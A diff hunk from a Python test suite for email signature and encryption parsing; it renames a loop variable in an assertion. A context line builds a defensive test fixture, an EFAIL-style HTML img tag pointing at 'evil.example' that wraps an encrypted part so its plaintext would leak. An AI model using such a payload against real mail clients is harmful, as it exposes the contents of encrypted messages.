@@ -149,7 +149,7 @@ def test_a_signature_covers_its_own_part_and_no_other(signer: Signer, encrypted:
         assert [part.text for part in beside.outside_signatures] == ["Pay Eve.", "And more."]
         twice = read(clear(entity, signer.signature(None, over=entity)))
         assert texts(twice) == [("Pay 100.\n", [0, 1])]
-        assert [each.problem for each in twice.signatures] == ["", ""]
+        assert [signature.problem for signature in twice.signatures] == ["", ""]
     around = read(signer.clear(encrypted))
     assert [(part.encrypted, sorted(part.signatures)) for part in around.parts] == [(True, [0])]
     leak = read(mixed(b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/', encrypted, b'\r\n">'))
